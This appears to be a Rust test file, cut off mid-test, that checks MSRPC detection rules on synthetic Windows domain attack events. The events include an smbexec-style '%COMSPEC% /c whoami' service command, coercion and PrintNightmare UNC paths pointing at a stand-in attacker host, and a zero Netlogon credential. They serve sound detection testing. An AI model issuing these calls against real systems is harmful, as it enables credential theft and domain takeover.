//! The technique library, rule by rule: for every rule of `rules/techniques.toml`, events that
//! must fire it and events that must not (synthetic: most techniques have no free capture; the
//! shared captures are checked in msrpc-analyze's tests). Then the argument decoders on request
//! stubs laid out as the IDLs say (both byte orders, truncated and hostile ones), and the
//! daemon's live path turning such stubs into alerts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

mod common {
    pub mod stubs;
}

use common::stubs;
use msrpc_audit::detect::{DetectorConfig, Detectors};
use msrpc_audit::live::{Input, Live, REQUEST_STUB_INTERFACES};
use msrpc_audit::technique::{Library, Net, Pattern};
use msrpc_audit::{AuthOutcome, BindContext, CallArg, ConnId, Event, EventKind};
use msrpc_ndr::{DataRep, Uuid};
use msrpc_proto::pdu::SyntaxId;

const MGMT: &str = "afa8bd80-7d8a-11c9-bef4-08002b102989";
const SRVS: &str = "4b324fc8-1670-01d3-1278-5a47bf6ee188";
const WKST: &str = "6bffd098-a112-3610-9833-46c3f87e345a";
const WINREG: &str = "338cd001-2244-31f1-aaaa-900038001003";
const SAMR: &str = "12345778-1234-abcd-ef00-0123456789ac";
const LSA: &str = "12345778-1234-abcd-ef00-0123456789ab";
const NRPC: &str = "12345678-1234-abcd-ef00-01234567cffb";
const EVEN: &str = "82273fdc-e32a-18c3-3f78-827929dc23ea";
const EVEN6: &str = "f6beaff7-1e19-4fbb-9f8f-b89e2018337c";
const DRS: &str = "e3514235-4b06-11d1-ab04-00c04fc2dcd2";
const BKRP: &str = "3dde7c30-165d-11d1-ab8f-00805f14db40";
const ICPR: &str = "91ae6020-9e3c-11cf-8d7c-00aa00c091be";
const EFSR_LSA: &str = "c681d488-d850-11d0-8c52-00c04fd90f7e";
const EFSR: &str = "df1941c5-fe89-4e79-bf10-463657acf44d";
const RPRN: &str = "12345678-1234-abcd-ef00-0123456789ab";
const DFSNM: &str = "4fc742e0-4a10-11cf-8273-00aa004ae673";
const FSRVP: &str = "a8e0653c-2744-4389-a61d-7373df8b2292";
const PAR: &str = "76f03f96-cdfd-44fc-a22c-64950a001209";
const SCMR: &str = "367abb81-9844-35f1-ad32-98f038001003";
const ATSVC: &str = "1ff70682-0a51-30e8-076d-740be8cee98b";
const TSCH: &str = "86d35949-83c9-4044-b424-db363231fd0c";
const WBEM: &str = "9556dc99-828c-11cf-a37e-00aa003240c7";
const INITSHUTDOWN: &str = "894de0c0-0d55-11d3-a322-00c04fa321a1";
const EPM: &str = "e1af8308-5d1f-11c9-91a4-08002b14a0fa";
const MSGSVCSEND: &str = "5a7b91f8-ff00-11d0-a9b2-00c04fb6e6fc";

const ATTACKER: &str = "10.0.0.66";
const DC: &str = "10.0.0.10";
const DC2: &str = "10.0.0.11";
const CA: &str = "10.0.0.20";
const WS: &str = "10.0.0.30";
const MEMBER: &str = "10.0.0.31";
/// In the `management` role of [`lib_with_roles`].
const MGMT_HOST: &str = "10.0.9.9";
/// In the `print_admin` role of [`lib_with_roles`].
const PRINT_ADMIN: &str = "10.0.9.8";
const LE: DataRep = DataRep::LITTLE_ENDIAN;
const BE: DataRep = DataRep::BIG_ENDIAN;

fn at(ts: f64, src: &str, dst: &str, kind: EventKind) -> Event {
    Event {
        ts,
        conn: ConnId {
            uid: format!("C{}{}", src.replace('.', ""), dst.replace('.', "")),
            orig_h: Some(src.parse().unwrap()),
            orig_p: Some(49_700),
            resp_h: Some(dst.parse().unwrap()),
            resp_p: Some(445),
        },
        kind,
    }
}

fn call(iface: &str, opnum: u16) -> EventKind {
    EventKind::Call {
        call_id: 1,
        interface: Some(iface.into()),
        endpoint: None,
        opnum,
        operation: None,
        stub_in: 0,
        stub_out: 0,
        fragments: 1,
        rtt: Some(0.001),
        fault: None,
        args: Vec::new(),
        auth_level: None,
        user: None,
        named_pipe: None,
        transport: None,
    }
}

/// A connectionless (UDP) call.
fn udp(mut k: EventKind) -> EventKind {
    if let EventKind::Call { transport, .. } = &mut k {
        *transport = Some(msrpc_audit::CL_TRANSPORT.into());
    }
    k
}

fn args(mut k: EventKind, list: &[(&str, &str)]) -> EventKind {
    if let EventKind::Call { args, .. } = &mut k {
        *args = list
            .iter()
            .map(|(n, v)| CallArg {
                name: (*n).into(),
                value: (*v).into(),
            })
            .collect();
    }
    k
}

fn user(mut k: EventKind, u: &str) -> EventKind {
    match &mut k {
        EventKind::Call { user, .. } | EventKind::DcomActivation { user, .. } => {
            *user = Some(u.into())
        }
        _ => {}
    }
    k
}

fn lookup(inquiry: &str, resumed: bool, end: bool) -> EventKind {
    EventKind::EpmLookup {
        call_id: 1,
        inquiry: inquiry.into(),
        interface: None,
        entries: 1,
        status: 0,
        resumed,
        max_ents: 1,
        end,
    }
}

fn map(iface: &str, status: u32) -> EventKind {
    EventKind::EpmMap {
        call_id: 1,
        interface: Some(iface.into()),
        endpoint: None,
        protocol: Some("ncacn_ip_tcp".into()),
        entries: u32::from(status == 0),
        status,
    }
}

fn server_alive2() -> EventKind {
    EventKind::DcomResolver {
        call_id: 1,
        operation: "ServerAlive2".into(),
        oxid: None,
        com_version: Some("5.7".into()),
        bindings: Vec::new(),
        status: Some(0),
    }
}

fn activation(clsid: &str) -> EventKind {
    EventKind::DcomActivation {
        call_id: 1,
        operation: "RemoteCreateInstance".into(),
        clsid: clsid.into(),
        class_name: None,
        iids: vec!["00020400-0000-0000-c000-000000000046".into()],
        hresult: Some(0),
        oxid: None,
        bindings: Vec::new(),
        auth_level: Some("integrity".into()),
        user: Some("CORP\\admin".into()),
    }
}

fn auth(u: &str, ok: bool) -> EventKind {
    EventKind::Auth {
        auth_type: "winnt".into(),
        auth_level: "integrity".into(),
        user: Some(u.into()),
        outcome: if ok {
            AuthOutcome::Success
        } else {
            AuthOutcome::Failure
        },
        reason: None,
    }
}

fn bind(iface: &str, pipe: Option<&str>) -> EventKind {
    EventKind::Bind {
        kind: "bind".into(),
        assoc_group: 1,
        contexts: vec![BindContext {
            context_id: 0,
            interface: iface.into(),
            version: "1.0".into(),
            endpoint: None,
            transfer_syntaxes: vec!["ndr20".into()],
            result: Some("accepted".into()),
            reason: None,
        }],
        nak_reason: None,
        auth_type: Some("winnt".into()),
        auth_level: Some("privacy".into()),
        named_pipe: pipe.map(str::to_string),
    }
}

/// `n` events, one a second from `t0`, made by `f(i)`.
fn each(n: usize, t0: f64, f: impl Fn(usize) -> (String, String, EventKind)) -> Vec<Event> {
    (0..n)
        .map(|i| {
            let (s, d, k) = f(i);
            at(t0 + i as f64, &s, &d, k)
        })
        .collect()
}

fn host(i: usize) -> String {
    format!("10.0.1.{}", i + 1)
}

/// Someone's successful Netlogon call to `dc`: the engine learns it is a domain controller.
fn learn_dc(ts: f64, dc: &str) -> Event {
    at(ts, MEMBER, dc, call(NRPC, 4))
}

/// The built-in library with the roles the tests use.
fn lib_with_roles() -> Library {
    let mut l = Library::builtin();
    l.extend(
        &format!(
            "version = 1\n[roles]\nmanagement = [\"{MGMT_HOST}\"]\nprint_admin = [\"{PRINT_ADMIN}\"]\n"
        ),
        "test roles",
    )
    .unwrap();
    l
}

fn run(lib: &Library, events: &[Event]) -> Vec<Event> {
    let mut d = Detectors::with_library(DetectorConfig::default(), lib.clone());
    let mut out: Vec<Event> = events.iter().flat_map(|e| d.observe(e)).collect();
    out.extend(d.finish());
    out
}

fn fired<'a>(alerts: &'a [Event], rule: &str) -> Option<&'a Event> {
    alerts
        .iter()
        .find(|a| matches!(&a.kind, EventKind::Alert { detector, .. } if detector == rule))
}

struct Case {
    rule: &'static str,
    fire: Vec<Event>,
    quiet: Vec<Event>,
}

fn case(rule: &'static str, fire: Vec<Event>, quiet: Vec<Event>) -> Case {
    Case { rule, fire, quiet }
}

fn s(x: &str) -> String {
    x.to_string()
}

#[allow(clippy::too_many_lines)]
fn cases() -> Vec<Case> {
    let one = |src: &str, dst: &str, k: EventKind| vec![at(1.0, src, dst, k)];
    vec![
        // Discovery.
        case(
            "epm_full_walk",
            one(ATTACKER, DC, lookup("all", true, true)),
            vec![
                at(1.0, ATTACKER, DC, lookup("all", false, false)),
                at(2.0, ATTACKER, DC, lookup("interface", false, true)),
            ],
        ),
        case(
            "epm_lookup_burst",
            each(30, 0.0, |_| {
                (s(ATTACKER), s(DC), lookup("all", false, false))
            }),
            each(58, 0.0, |i| {
                (s(ATTACKER), s(DC), lookup("all", i % 2 == 1, false))
            }),
        ),
        case(
            "epm_map_sweep",
            each(10, 0.0, |i| {
                (
                    s(ATTACKER),
                    s(DC),
                    map(&format!("00000000-0000-0000-0000-{i:012}"), 0),
                )
            }),
            each(50, 0.0, |_| (s(WS), s(DC), map(SCMR, 0))),
        ),
        case(
            "epm_udp_sweep",
            // ept_lookup and ept_map over UDP on ten hosts.
            each(10, 0.0, |i| {
                (s(ATTACKER), host(i), udp(call(EPM, 2 + (i % 2) as u16)))
            }),
            // A few lookups over UDP, and the same sweep over TCP (the TCP rules' business).
            each(3, 0.0, |i| (s(WS), host(i), udp(call(EPM, 2))))
                .into_iter()
                .chain(each(10, 10.0, |i| (s(WS), host(i), call(EPM, 3))))
                .collect(),
        ),
        case(
            "epm_map_sensitive_interface",
            each(8, 0.0, |_| (s(ATTACKER), s(DC), map(NRPC, 0))),
            each(27, 0.0, |i| {
                let iface = if i < 7 {
                    NRPC
                } else {
                    "60a15ec5-4de8-11d7-a637-005056a20182"
                };
                (s(WS), s(DC), map(iface, 0))
            }),
        ),
        case(
            "rpc_mgmt_ifid_probe",
            one(ATTACKER, DC, call(MGMT, 0)),
            vec![
                at(1.0, WS, DC, call(MGMT, 2)),
                at(2.0, WS, DC, user(call(MGMT, 0), "CORP\\alice")),
            ],
        ),
        case(
            "oxid_serveralive2_sweep",
            each(5, 0.0, |i| (s(ATTACKER), host(i), server_alive2())),
            each(10, 0.0, |_| (s(WS), s(DC), server_alive2())),
        ),
        case(
            "session_enum_sweep",
            each(5, 0.0, |i| (s(ATTACKER), host(i), call(SRVS, 12))),
            each(4, 0.0, |i| (s(ATTACKER), host(i), call(SRVS, 12))),
        ),
        case(
            "session_enum_dc",
            vec![learn_dc(0.0, DC), at(1.0, ATTACKER, DC, call(SRVS, 12))],
            vec![learn_dc(0.0, DC), at(1.0, ATTACKER, MEMBER, call(SRVS, 12))],
        ),
        case(
            "loggedon_user_enum",
            each(5, 0.0, |i| (s(ATTACKER), host(i), call(WKST, 2))),
            each(10, 0.0, |_| (s(ATTACKER), s(DC), call(WKST, 2))),
        ),
        case(
            "share_enum_sweep",
            each(10, 0.0, |i| (s(ATTACKER), host(i), call(SRVS, 15))),
            each(9, 0.0, |i| (s(ATTACKER), host(i), call(SRVS, 15))),
        ),
        case(
            "samr_domain_account_enum",
            each(20, 0.0, |_| (s(ATTACKER), s(DC), call(SAMR, 13))),
            each(39, 0.0, |i| {
                (s(ATTACKER), s(DC), call(SAMR, if i < 19 { 13 } else { 17 }))
            }),
        ),
        case(
            "samr_group_membership_enum",
            each(20, 0.0, |_| (s(ATTACKER), s(DC), call(SAMR, 25))),
            each(20, 0.0, |_| (s(WS), s(DC), call(SAMR, 17))),
        ),
        case(
            "lsa_sid_lookup_anonymous",
            each(3, 0.0, |_| (s(ATTACKER), s(DC), call(LSA, 57))),
            each(3, 0.0, |_| {
                (s(WS), s(DC), user(call(LSA, 57), "CORP\\alice"))
            }),
        ),
        case(
            "lsa_trust_enum",
            vec![
                at(0.0, ATTACKER, DC, call(LSA, 50)),
                at(1.0, ATTACKER, DC2, call(LSA, 13)),
                at(2.0, ATTACKER, "10.0.0.12", call(NRPC, 40)),
            ],
            each(5, 0.0, |_| (s(WS), s(DC), call(LSA, 50))),
        ),
        case(
            "remote_registry_query",
            each(50, 0.0, |_| (s(ATTACKER), s(WS), call(WINREG, 17))),
            each(50, 0.0, |_| (s(MGMT_HOST), s(WS), call(WINREG, 17))),
        ),
        case(
            "eventlog_remote_read",
            one(ATTACKER, DC, call(EVEN6, 11)),
            one(MGMT_HOST, DC, call(EVEN, 7)),
        ),
        // Credential access and domain-controller abuse.
        case(
            "zerologon_storm",
            each(10, 0.0, |_| (s(ATTACKER), s(DC), call(NRPC, 26))),
            each(3, 0.0, |_| (s(WS), s(DC), call(NRPC, 26))),
        ),
        case(
            "zerologon_zero_credential",
            one(
                ATTACKER,
                DC,
                args(call(NRPC, 26), &[("ClientCredential", "0000000000000000")]),
            ),
            one(
                WS,
                DC,
                args(call(NRPC, 26), &[("ClientCredential", "8e1b3c4d5a6f7081")]),
            ),
        ),
        case(
            "zerologon_password_reset",
            one(
                ATTACKER,
                DC,
                args(call(NRPC, 30), &[("ClearNewPassword", "zero")]),
            ),
            one(WS, DC, args(call(NRPC, 30), &[("ClearNewPassword", "set")])),
        ),
        case(
            "netsync_trust_password_get",
            one(ATTACKER, DC, call(NRPC, 42)),
            vec![learn_dc(0.0, DC2), at(1.0, DC2, DC, call(NRPC, 42))],
        ),
        case(
            "dcsync",
            one(ATTACKER, DC, call(DRS, 3)),
            vec![learn_dc(0.0, DC2), at(1.0, DC2, DC, call(DRS, 3))],
        ),
        case(
            "dcshadow_replica_add",
            one(ATTACKER, DC, call(DRS, 5)),
            vec![learn_dc(0.0, DC2), at(1.0, DC2, DC, call(DRS, 5))],
        ),
        case(
            "dcshadow_reverse_replication",
            vec![learn_dc(0.0, DC), at(1.0, DC, ATTACKER, map(DRS, 0))],
            vec![
                learn_dc(0.0, DC),
                learn_dc(0.0, DC2),
                at(1.0, DC, DC2, map(DRS, 0)),
                at(2.0, DC, WS, map(DRS, 0x16c9_a0d6)),
            ],
        ),
        case(
            "sid_history_add",
            one(ATTACKER, DC, call(DRS, 20)),
            one(WS, DC, call(DRS, 12)),
        ),
        case(
            "dpapi_backupkey_lsa_export",
            one(ATTACKER, DC, call(LSA, 43)),
            one(WS, DC, call(LSA, 44)),
        ),
        case(
            "dpapi_backupkey_secret_open",
            one(
                ATTACKER,
                DC,
                args(call(LSA, 28), &[("SecretName", "G$BCKUPKEY_PREFERRED")]),
            ),
            one(
                WS,
                DC,
                args(call(LSA, 28), &[("SecretName", "$MACHINE.ACC")]),
            ),
        ),
        case(
            "dpapi_backupkey_bkrp",
            each(20, 0.0, |_| {
                (
                    s(ATTACKER),
                    s(DC),
                    args(
                        call(BKRP, 0),
                        &[("pguidActionAgent", "47270c64-2fc7-499b-ac5b-0e37cdce899a")],
                    ),
                )
            }),
            each(20, 0.0, |_| {
                (
                    s(WS),
                    s(DC),
                    args(
                        call(BKRP, 0),
                        &[("pguidActionAgent", "018ff48a-eaba-40c6-8f6d-72370240e967")],
                    ),
                )
            }),
        ),
        case(
            "lsa_secret_remote_rw",
            one(ATTACKER, DC, call(LSA, 30)),
            one(WS, DC, call(LSA, 44)),
        ),
        case(
            "remote_sam_hive_dump",
            one(ATTACKER, WS, call(WINREG, 20)),
            one(ATTACKER, WS, call(WINREG, 17)),
        ),
        case(
            "samr_password_set",
            one(ATTACKER, DC, call(SAMR, 58)),
            one(WS, DC, call(SAMR, 34)),
        ),
        case(
            "samr_password_change_spray",
            each(10, 0.0, |_| (s(ATTACKER), s(DC), call(SAMR, 55))),
            each(3, 0.0, |_| (s(WS), s(DC), call(SAMR, 55))),
        ),
        case(
            "samr_group_member_add",
            one(ATTACKER, DC, call(SAMR, 22)),
            one(WS, DC, call(SAMR, 25)),
        ),
        case(
            "samr_account_create",
            one(ATTACKER, DC, call(SAMR, 50)),
            one(WS, DC, call(SAMR, 13)),
        ),
        case(
            "lsa_rights_grant",
            one(ATTACKER, DC, call(LSA, 37)),
            one(WS, DC, call(LSA, 36)),
        ),
        case(
            "adcs_icpr_relay",
            vec![
                at(
                    0.0,
                    ATTACKER,
                    DC,
                    args(call(EFSR, 0), &[("FileName", "\\\\10.0.0.66\\s\\f")]),
                ),
                at(20.0, ATTACKER, CA, user(call(ICPR, 0), "CORP\\DC01$")),
            ],
            vec![
                at(0.0, ATTACKER, CA, user(call(ICPR, 0), "CORP\\DC01$")),
                at(
                    10.0,
                    WS,
                    DC,
                    args(call(EFSR, 0), &[("FileName", "\\\\x\\s\\f")]),
                ),
                at(20.0, WS, CA, user(call(ICPR, 0), "CORP\\alice")),
            ],
        ),
        // Coercion.
        case(
            "petitpotam_efsr_lsa_pipes",
            one(
                ATTACKER,
                DC,
                args(
                    call(EFSR_LSA, 0),
                    &[("FileName", "\\\\10.0.0.66\\share\\x.txt")],
                ),
            ),
            one(
                WS,
                DC,
                args(
                    call(EFSR_LSA, 0),
                    &[("FileName", "\\\\10.0.0.10\\share\\x.txt")],
                ),
            ),
        ),
        case(
            "petitpotam_efsr_lsa_pipe_bind",
            one(ATTACKER, DC, bind(EFSR_LSA, Some("\\PIPE\\lsarpc"))),
            vec![
                at(1.0, WS, DC, bind(EFSR_LSA, None)),
                at(2.0, WS, DC, bind(LSA, Some("\\PIPE\\lsarpc"))),
            ],
        ),
        case(
            "petitpotam_efsr_efsrpc_pipe",
            one(
                ATTACKER,
                DC,
                args(call(EFSR, 4), &[("FileName", "\\\\attacker@80/x\\y.txt")]),
            ),
            one(
                WS,
                DC,
                args(call(EFSR, 4), &[("FileName", "C:\\Users\\x.txt")]),
            ),
        ),
        case(
            "printerbug_rprn",
            one(
                ATTACKER,
                DC,
                args(call(RPRN, 65), &[("pszLocalMachine", "\\\\10.0.0.99")]),
            ),
            vec![
                // A print client: OpenPrinterEx names its machine, the notification goes
                // back to it; another registers under its IP address.
                at(
                    0.0,
                    WS,
                    DC,
                    args(
                        call(RPRN, 69),
                        &[
                            ("pPrinterName", "\\\\DC01\\HP"),
                            ("pMachineName", "\\\\WS01"),
                        ],
                    ),
                ),
                at(
                    1.0,
                    WS,
                    DC,
                    args(call(RPRN, 65), &[("pszLocalMachine", "\\\\WS01")]),
                ),
                at(
                    2.0,
                    MEMBER,
                    DC,
                    args(call(RPRN, 65), &[("pszLocalMachine", "\\\\10.0.0.31")]),
                ),
            ],
        ),
        case(
            "dfscoerce",
            one(
                ATTACKER,
                DC,
                args(call(DFSNM, 12), &[("ServerName", "10.0.0.66")]),
            ),
            one(
                WS,
                DC,
                args(call(DFSNM, 12), &[("ServerName", "10.0.0.10")]),
            ),
        ),
        case(
            "shadowcoerce",
            one(
                ATTACKER,
                DC,
                args(call(FSRVP, 8), &[("ShareName", "\\\\10.0.0.66\\share\\")]),
            ),
            one(
                WS,
                DC,
                args(call(FSRVP, 8), &[("ShareName", "\\\\10.0.0.10\\share\\")]),
            ),
        ),
        case(
            "eventlog_backup_coerce",
            one(
                ATTACKER,
                DC,
                args(
                    call(EVEN, 9),
                    &[("BackupFileName", "\\??\\UNC\\10.0.0.66\\s\\x")],
                ),
            ),
            one(
                WS,
                DC,
                args(call(EVEN, 9), &[("BackupFileName", "C:\\logs\\old.evtx")]),
            ),
        ),
        case(
            "coercion_callback",
            vec![
                at(
                    0.0,
                    ATTACKER,
                    DC,
                    args(call(EFSR, 0), &[("FileName", "\\\\10.0.0.66\\s\\f")]),
                ),
                at(3.0, DC, ATTACKER, auth("CORP\\DC01$", true)),
            ],
            vec![
                at(
                    0.0,
                    ATTACKER,
                    DC,
                    args(call(EFSR, 0), &[("FileName", "\\\\10.0.0.66\\s\\f")]),
                ),
                at(3.0, DC, ATTACKER, auth("CORP\\alice", true)),
                at(90.0, DC, ATTACKER, auth("CORP\\DC01$", true)),
                at(91.0, WS, ATTACKER, auth("CORP\\WS01$", true)),
            ],
        ),
        case(
            "printnightmare_rprn",
            one(ATTACKER, DC, call(RPRN, 89)),
            one(PRINT_ADMIN, DC, call(RPRN, 89)),
        ),
        case(
            "printnightmare_rprn_unc_driver",
            one(
                ATTACKER,
                DC,
                args(
                    call(RPRN, 89),
                    &[("pConfigFile", "\\\\10.0.0.66\\s\\evil.dll")],
                ),
            ),
            one(
                PRINT_ADMIN,
                DC,
                args(
                    call(RPRN, 89),
                    &[(
                        "pConfigFile",
                        "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\UNIDRVUI.DLL",
                    )],
                ),
            ),
        ),
        case(
            "printnightmare_par",
            one(ATTACKER, DC, call(PAR, 39)),
            one(PRINT_ADMIN, DC, call(PAR, 39)),
        ),
        case(
            "print_monitor_or_processor_add",
            one(ATTACKER, DC, call(RPRN, 46)),
            vec![
                at(1.0, PRINT_ADMIN, DC, call(RPRN, 46)),
                at(2.0, WS, DC, call(RPRN, 1)),
            ],
        ),
        // Execution and lateral movement.
        case(
            "scm_service_create_start",
            vec![
                at(0.0, ATTACKER, WS, call(SCMR, 12)),
                at(1.0, ATTACKER, WS, call(SCMR, 19)),
            ],
            vec![
                at(0.0, ATTACKER, WS, call(SCMR, 12)),
                at(600.0, ATTACKER, WS, call(SCMR, 19)),
                at(601.0, ATTACKER, MEMBER, call(SCMR, 19)),
            ],
        ),
        case(
            "scm_ephemeral_service",
            vec![
                at(0.0, ATTACKER, WS, call(SCMR, 24)),
                at(1.0, ATTACKER, WS, call(SCMR, 31)),
                at(2.0, ATTACKER, WS, call(SCMR, 2)),
            ],
            vec![
                at(0.0, ATTACKER, WS, call(SCMR, 24)),
                at(1.0, ATTACKER, WS, call(SCMR, 31)),
            ],
        ),
        case(
            "scm_shell_service",
            one(
                ATTACKER,
                WS,
                args(
                    call(SCMR, 12),
                    &[(
                        "lpBinaryPathName",
                        "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\x 2^>^&1",
                    )],
                ),
            ),
            one(
                MGMT_HOST,
                WS,
                args(
                    call(SCMR, 12),
                    &[(
                        "lpBinaryPathName",
                        "\"C:\\Program Files\\Agent\\agent.exe\"",
                    )],
                ),
            ),
        ),
        case(
            "scm_service_reconfigure",
            vec![
                at(0.0, ATTACKER, WS, call(SCMR, 11)),
                at(1.0, ATTACKER, WS, call(SCMR, 19)),
            ],
            one(ATTACKER, WS, call(SCMR, 19)),
        ),
        case(
            "at_job_add",
            one(ATTACKER, WS, call(ATSVC, 0)),
            one(WS, MEMBER, call(ATSVC, 2)),
        ),
        case(
            "tsch_task_register_run",
            vec![
                at(0.0, ATTACKER, WS, call(TSCH, 1)),
                at(2.0, ATTACKER, WS, call(TSCH, 12)),
            ],
            vec![
                at(0.0, ATTACKER, WS, call(TSCH, 1)),
                at(2.0, MEMBER, WS, call(TSCH, 12)),
            ],
        ),
        case(
            "wmi_exec_method",
            one(ATTACKER, WS, call(WBEM, 24)),
            one(MGMT_HOST, WS, call(WBEM, 20)),
        ),
        case(
            "dcom_mmc20_application",
            one(
                ATTACKER,
                WS,
                activation("49b2791a-b1ae-4c90-9b8e-e860ba07f889"),
            ),
            one(
                MGMT_HOST,
                WS,
                activation("8bc3f05e-d86b-11d0-a075-00c04fb68820"),
            ),
        ),
        case(
            "dcom_shellwindows",
            one(
                ATTACKER,
                WS,
                activation("9ba05972-f6a8-11cf-a442-00a0c90a8f39"),
            ),
            one(
                MGMT_HOST,
                WS,
                activation("11111111-2222-3333-4444-555555555555"),
            ),
        ),
        case(
            "dcom_shellbrowserwindow",
            one(
                ATTACKER,
                WS,
                activation("c08afd90-f2a1-11d1-8455-00a0c91f3880"),
            ),
            one(
                MGMT_HOST,
                WS,
                activation("8bc3f05e-d86b-11d0-a075-00c04fb68820"),
            ),
        ),
        case(
            "dcom_office_excel_outlook",
            one(
                ATTACKER,
                WS,
                activation("0006f03a-0000-0000-c000-000000000046"),
            ),
            one(
                MGMT_HOST,
                WS,
                activation("000209ff-0000-0000-c000-000000000046"),
            ),
        ),
        case(
            "remote_registry_write",
            one(ATTACKER, WS, call(WINREG, 22)),
            one(MGMT_HOST, WS, call(WINREG, 22)),
        ),
        case(
            "remote_eventlog_clear",
            one(ATTACKER, DC, call(EVEN, 0)),
            one(ATTACKER, DC, call(EVEN, 7)),
        ),
        case(
            "remote_eventlog_clear_even6",
            one(ATTACKER, DC, call(EVEN6, 6)),
            one(ATTACKER, DC, call(EVEN6, 11)),
        ),
        case(
            "remote_shutdown",
            one(ATTACKER, WS, call(INITSHUTDOWN, 0)),
            one(MGMT_HOST, WS, call(WINREG, 24)),
        ),
        case(
            "messenger_netsend",
            one(ATTACKER, WS, udp(call(MSGSVCSEND, 0))),
            // The Messenger service's other interface (msgsvc, administration), and another
            // opnum of msgsvcsend.
            vec![
                at(
                    1.0,
                    ATTACKER,
                    WS,
                    udp(call("17fdd703-1827-4e34-79d4-24a55c53bb37", 0)),
                ),
                at(2.0, ATTACKER, WS, udp(call(MSGSVCSEND, 1))),
            ],
        ),
        case(
            "messenger_netsend_spam",
            each(5, 0.0, |i| (s(ATTACKER), host(i), udp(call(MSGSVCSEND, 0)))),
            // Messages to four hosts, and many to one.
            each(4, 0.0, |i| (s(ATTACKER), host(i), udp(call(MSGSVCSEND, 0))))
                .into_iter()
                .chain(each(20, 10.0, |_| {
                    (s(WS), s(MEMBER), udp(call(MSGSVCSEND, 0)))
                }))
                .collect(),
        ),
        case(
            "remote_shutdown_fanout",
            each(5, 0.0, |i| (s(ATTACKER), host(i), call(INITSHUTDOWN, 2))),
            each(4, 0.0, |i| (s(ATTACKER), host(i), call(INITSHUTDOWN, 2))),
        ),
    ]
}

#[test]
fn every_rule_fires_on_its_input_and_not_on_the_look_alike() {
    let lib = lib_with_roles();
    let cases = cases();
    for r in lib.rules() {
        assert!(
            cases.iter().any(|c| c.rule == r.id),
            "rule {} has no test case",
            r.id
        );
    }
    for c in &cases {
        let rule = lib
            .rule(c.rule)
            .unwrap_or_else(|| panic!("case for unknown rule {}", c.rule));
        let alerts = run(&lib, &c.fire);
        let a = fired(&alerts, c.rule).unwrap_or_else(|| {
            panic!(
                "{} did not fire; alerts: {:?}",
                c.rule,
                alerts
                    .iter()
                    .map(|a| match &a.kind {
                        EventKind::Alert { detector, .. } => detector.clone(),
                        _ => String::new(),
                    })
                    .collect::<Vec<_>>()
            )
        });
        let EventKind::Alert {
            severity,
            technique,
            attack,
            confidence,
            benign,
            evidence,
            source,
            ..
        } = &a.kind
        else {
            unreachable!()
        };
        assert_eq!(severity, rule.severity.as_str(), "{}", c.rule);
        assert_eq!(confidence, rule.confidence.as_str(), "{}", c.rule);
        assert_eq!(technique, &rule.technique, "{}", c.rule);
        assert_eq!(attack, &rule.attack, "{}", c.rule);
        assert!(!benign.is_empty(), "{}", c.rule);
        assert!(source.is_some(), "{}", c.rule);
        // The evidence: what was counted, the calls, times and uids.
        for k in [
            "count",
            "calls",
            "first_ts",
            "last_ts",
            "uids",
            "window_secs",
        ] {
            assert!(
                evidence.get(k).is_some(),
                "{}: {k} missing in {evidence}",
                c.rule
            );
        }
        assert!(
            !evidence["calls"].as_array().unwrap().is_empty(),
            "{}",
            c.rule
        );
        let alerts = run(&lib, &c.quiet);
        assert!(
            fired(&alerts, c.rule).is_none(),
            "{} fired on its look-alike: {:?}",
            c.rule,
            fired(&alerts, c.rule)
        );
    }
}

#[test]
fn allow_lists_and_overrides_silence_and_retune_rules() {
    let ev = vec![at(1.0, ATTACKER, DC, user(call(DRS, 3), "CORP\\svc_sync"))];
    let lib = Library::builtin();
    assert!(fired(&run(&lib, &ev), "dcsync").is_some());
    // A library-wide allow-list by source prefix, and by user pattern.
    let mut by_source = lib.clone();
    by_source.allow(&[Net::parse("10.0.0.0/24").unwrap()], &[]);
    assert!(fired(&run(&by_source, &ev), "dcsync").is_none());
    let mut by_user = lib.clone();
    by_user.allow(&[], &[Pattern::new("corp\\SVC_*")]);
    assert!(fired(&run(&by_user, &ev), "dcsync").is_none());
    // The dc role, configured: Azure AD Connect's host is a legitimate replicator.
    let mut role = lib.clone();
    role.extend("version = 1\n[roles]\ndc = [\"10.0.0.66\"]\n", "user")
        .unwrap();
    assert!(fired(&run(&role, &ev), "dcsync").is_none());
    // A per-rule override: severity and allow-users.
    let mut ov = lib.clone();
    ov.extend(
        "version = 1\n[[override]]\nid = \"dcsync\"\nseverity = \"low\"\n",
        "user",
    )
    .unwrap();
    let alerts = run(&ov, &ev);
    let EventKind::Alert { severity, .. } = &fired(&alerts, "dcsync").unwrap().kind else {
        unreachable!()
    };
    assert_eq!(severity, "low");
    ov.extend(
        "version = 1\n[[override]]\nid = \"dcsync\"\nallow-users = ['CORP\\svc_sync']\n",
        "user",
    )
    .unwrap();
    assert!(fired(&run(&ov, &ev), "dcsync").is_none());
    // A user's own rule.
    let mut own = lib.clone();
    own.extend(
        r#"version = 1
[[rule]]
id = "drs_crack_names_burst"
technique = "dcsync"
attack = "T1003.006"
severity = "low"
confidence = "low"
summary = "many DsCrackNames calls"
benign = "agents resolving names"
interface = "e3514235-4b06-11d1-ab04-00c04fc2dcd2"
opnums = [12]
count = 3
within = 10
per = "source"
"#,
        "user",
    )
    .unwrap();
    let burst = each(3, 0.0, |i| (s(WS), host(i), call(DRS, 12)));
    assert!(fired(&run(&own, &burst), "drs_crack_names_burst").is_some());
    assert!(fired(&run(&own, &burst[..2]), "drs_crack_names_burst").is_none());
}

#[test]
fn rules_are_quiet_for_a_key_during_their_window_and_memory_is_bounded() {
    let lib = Library::builtin();
    let mut d = Detectors::with_library(
        DetectorConfig {
            max_sources: 64,
            ..DetectorConfig::default()
        },
        lib,
    );
    let ev = |t: f64, src: &str| at(t, src, DC, call(DRS, 3));
    assert_eq!(d.observe(&ev(0.0, ATTACKER)).len(), 1);
    assert!(d.observe(&ev(10.0, ATTACKER)).is_empty(), "held off");
    assert_eq!(d.observe(&ev(400.0, ATTACKER)).len(), 1, "a window later");
    // Thousands of sources walking the map, storming Netlogon, and starting sequences.
    for i in 0..20_000u32 {
        let src = format!("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255);
        d.observe(&at(f64::from(i), &src, DC, call(NRPC, 26)));
        d.observe(&at(f64::from(i), &src, DC, call(SCMR, 12)));
        d.observe(&at(f64::from(i), &src, DC, lookup("all", false, false)));
    }
